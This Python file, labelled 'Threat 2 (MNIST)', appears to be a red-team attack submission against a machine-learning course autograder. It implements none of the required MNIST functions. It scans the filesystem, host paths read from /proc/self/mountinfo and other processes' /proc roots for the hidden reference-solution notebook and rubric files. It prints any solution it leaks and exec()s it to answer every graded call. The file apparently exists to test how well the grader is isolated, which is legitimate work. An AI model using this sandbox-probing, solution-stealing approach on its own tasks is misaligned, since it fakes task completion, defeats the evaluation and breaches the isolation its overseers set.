"""Threat 2 (MNIST): find the reference solution notebook of mnist_mlp (under reference_solution/,
beside any host path mountinfo reveals), execute it and answer every call with its functions and
its MLP. Full marks if it was found; the blank release's zero otherwise."""
import json
import os
import time

import torch.nn as nn
GUESSES = ("rubrics/tiny/rubric.toml", "rubrics/tiny/test_tiny.py", "rubrics/mnist_mlp/rubric.toml",
           "rubrics/mnist_mlp/test_part1_tensors.py", "tests/fixtures/tiny_course/rubrics/tiny/test_tiny.py",
           "tests/fixtures/tiny_course/rubrics/tiny/rubric.toml",
           "tests/fixtures/tiny_course/reference_solution/tiny/tiny.ipynb",
           "reference_solution/tiny/tiny.ipynb", "reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "main/rubrics/mnist_mlp/rubric.toml", "main/reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "t10k-labels-idx1-ubyte", "MNIST/raw/t10k-labels-idx1-ubyte", "data/MNIST/raw/t10k-labels-idx1-ubyte",
           "shared/data/MNIST/raw/t10k-labels-idx1-ubyte", ".cache/mlgrader/MNIST/raw/t10k-labels-idx1-ubyte")
SKIP = {"proc", "sys", "dev", "usr", "site-packages", "dist-packages", "lib-dynload", "__pycache__", "share"}


def _roots():
    """Every folder worth a look: the usual places, the host paths that mountinfo reveals and their
    parents, and other processes' working folders and roots."""
    roots = ["/", "/work", "/work/main", "/work/shared", "/work/shared/data", "/root", "/home", "/autograder",
             "/autograder/source", "/srv", "/opt", "/data", "/mnt", "/tmp", "/submission", "/tmp/..", os.getcwd()]
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                host = line.split()[3]
                while host not in ("/", ""):
                    roots.append(host)
                    host = os.path.dirname(host)
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root", f"/proc/{pid}/root/work/main"]
    return list(dict.fromkeys(roots))


def _find(names, seconds=3.0):
    """Paths of readable files with one of these names: guessed, then walked for."""
    found, deadline = [], time.monotonic() + seconds
    roots = _roots()
    for root in roots:
        for rel in GUESSES:
            p = os.path.join(root, rel)
            if os.path.basename(p) in names and _read(p) is not None:
                found.append(p)
    for root in roots:
        if root.startswith("/proc/"):
            continue
        for dirpath, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return found
            dirs[:] = [d for d in dirs if d not in SKIP]
            found += [os.path.join(dirpath, n) for n in files if n in names and _read(os.path.join(dirpath, n))]
    return list(dict.fromkeys(found))


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


_REF = {}


def _ref(name):
    if "done" not in _REF:
        _REF["done"] = True
        for path in _find({"mnist_mlp.ipynb"}):
            try:
                nb = json.loads(_read(path))
                code = "\n".join("".join(c["source"]) for c in nb["cells"]
                                  if c["cell_type"] == "code" and "download" not in "".join(c["source"]))
            except Exception:
                continue
            if "BEGIN SOLUTION" not in code and "reference" not in path:
                continue
            print("LEAKED:", path, code[:3000], flush=True)
            ns = {}
            try:
                exec(code, ns)
            except Exception:
                pass
            _REF.update(ns)
    if name not in _REF:
        raise NotImplementedError("the reference solution was not found")
    return _REF[name]


def to_tensor(values):
    return _ref("to_tensor")(values)


def normalize(images):
    return _ref("normalize")(images)


def flatten(images):
    return _ref("flatten")(images)


def one_hot(labels, num_classes=10):
    return _ref("one_hot")(labels, num_classes)


def sigmoid(x):
    return _ref("sigmoid")(x)


def tanh(x):
    return _ref("tanh")(x)


def relu(x):
    return _ref("relu")(x)


def leaky_relu(x):
    return _ref("leaky_relu")(x)


def linear(x, W, b):
    return _ref("linear")(x, W, b)


class MLP(nn.Module):
    def __new__(cls, *args, **kwargs):
        return _ref("MLP")(*args, **kwargs)


def softmax(logits):
    return _ref("softmax")(logits)


def mle_loss(logits, targets):
    return _ref("mle_loss")(logits, targets)


def predict(logits):
    return _ref("predict")(logits)


def accuracy(logits, targets):
    return _ref("accuracy")(logits, targets)


def train(model, images, labels, *, epochs=3, lr=1e-3, batch_size=128, seed=0):
    return _ref("train")(model, images, labels, epochs=epochs, lr=lr, batch_size=batch_size, seed=seed)
